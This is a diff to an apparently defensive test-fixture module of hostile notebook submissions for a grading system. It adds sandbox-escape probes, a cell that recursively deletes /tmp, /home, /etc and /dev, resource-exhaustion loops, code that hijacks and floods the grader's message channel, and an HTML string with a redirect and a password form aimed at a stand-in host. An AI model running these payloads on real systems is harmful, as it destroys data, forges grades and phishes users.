@@ -1,6 +1,11 @@
 """Submissions that mean no good, or are no submissions at all. ``CELLS``: a cell to put before the answers. ``ANSWERS``: an
-answer in the place of a right one. ``FILES``: what is no notebook."""
+answer in the place of a right one. ``FILES``: what is no notebook. ``TEXT``: what a feedback page must not do to its reader."""
 
+# the submission's end of the channel to the worker
+CHANNEL = (
+    "import gc, io, time\n"
+    "out = next(o for o in gc.get_objects() if isinstance(o, io.TextIOWrapper) and o.fileno() > 2 and o.writable())\n"
+)
 CELLS = {
     "loops": "while True: pass",
     "loops and catches everything": (
@@ -19,9 +24,33 @@ CELLS = {
         "got += [1] * (libc.shmget(0, 1 << 30, 0o1600) >= 0)\n"
         "got += [2] * (libc.unshare(0x10020000) == 0)\n"
         "got += [3] * (os.uname().machine == 'x86_64' and libc.syscall(56, 0x10000011, 0, 0, 0, 0) >= 0)\n"
+        "import mmap, socket\n"
+        "for share in (lambda: mmap.mmap(-1, 1 << 20), lambda: mmap.mmap(os.open('/dev/zero', os.O_RDWR), 1 << 20)):\n"
+        "    try:\n        got.append(share())\n    except OSError:\n        pass\n"
+        "got += [4] * (libc.semget(0, 32000, 0o600) >= 0)\n"
+        "ends = os.pipe()\ngot += [5] * (libc.vmsplice(ends[1], (ctypes.c_size_t * 2)(id(libc), 16), 1, 0) >= 0)\n"
+        "try:\n    socket.socketpair()[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)\n    got.append(6)\n"
+        "except OSError:\n    pass\n"
+        "held = []\n"
+        "try:\n    while len(held) < 1000:\n        held.append(os.pipe())\n    got.append(7)\nexcept OSError:\n    pass\n"
+        "for end in sum(held, ()):\n    os.close(end)\n"
         "if got:\n    os._exit(77)"
     ),
-    "deletes files": "import shutil\nfor place in ('/tmp', '/home', '/'):\n    shutil.rmtree(place, ignore_errors=True)",
+    "makes a million files": "import os\nfor n in range(10**6):\n    os.mknod(f'/tmp/{n}')",
+    "leaves its core": "import os\nos.sched_setaffinity(0, range(os.cpu_count()))\nos._exit(77)",
+    "floods the channel": (
+        CHANNEL + "lines = '{\"step\": 1, \"error\": {\"type\": \"TimeUp\", \"message\": \"\"}}\\n' * 1000\n"
+        "for _ in range(50):\n    out.write(lines)\nout.flush()"
+    ),
+    "sends a message without end": CHANNEL + "out.write('{\"step\": [' + '[],' * 10**7 + '[]]}\\n')\nout.flush()",
+    "sends deep and odd messages": (
+        CHANNEL + "deep = '[' * 980 + ']' * 980\n"
+        "out.write('{\"step\": 4, \"function\": [[' + deep + ', 1, 1]]}\\n{\"step\": NaN}\\n')\nout.flush()"
+    ),
+    "deletes files": (
+        "import mcmteach, shutil\n"
+        "for place in ('/tmp', '/home', '/etc', '/dev', mcmteach.__path__[0]):\n    shutil.rmtree(place, ignore_errors=True)"
+    ),
     "fills the disk": "with open('/tmp/big', 'wb') as file:\n    while True:\n        file.write(bytes(10**7))",
     "fills other places": (
         "for place in ('/dev/shm/big', '/big', '/dev/big'):\n"
@@ -68,6 +97,10 @@ ANSWERS = {
     ),
     "returns a hundred million numbers": "def empirical_risk(y, f):\n    return np.zeros(10**8)\n",
     "returns an integer without end": "def empirical_risk(y, f):\n    return 10**400\n",
+    "returns numbers of very different kinds": (
+        "calls = []\ndef empirical_risk(y, f):\n    calls.append(1)\n"
+        "    return {1: 0.3, 2: 10**25, 3: 10**400, 4: 'x', 5: None, 6: np.zeros((2, 3))}.get(len(calls), float('nan'))\n"
+    ),
     "returns itself in itself": "def empirical_risk(y, f):\n    a = []\n    a.append(a)\n    return a\n",
     "loops in an answer": "def empirical_risk(y, f):\n    while True: pass\n",
     "exits in an answer": "import os\ndef empirical_risk(y, f):\n    os._exit(3)\n",
@@ -85,4 +118,15 @@ FILES = {
     "large.ipynb": b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}' + b" " * (6 << 20),
     "other.ipynb": b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
     "report.pdf": b"%PDF-1.4",
+    "of lesson ten to the five thousandth.ipynb": b'{"grade_id": "test-' + b"9" * 5000 + b'-1"}',
+    "many cells.ipynb": (
+        b'{"metadata": {}, "nbformat": 4, "nbformat_minor": 4, "cells": ['
+        + b'{"cell_type": "raw", "metadata": {}, "source": ""},' * 2000
+        + b'{"cell_type": "raw", "metadata": {"nbgrader": {"grade_id": "test-1-1"}}, "source": ""}]}'
+    ),
 }
+
+TEXT = (
+    '**bold** <meta http-equiv="refresh" content="0;url=https://elsewhere.example">'
+    '<form action="https://elsewhere.example"><input type="password"></form><style>body {display: none}</style><script>while'
+)
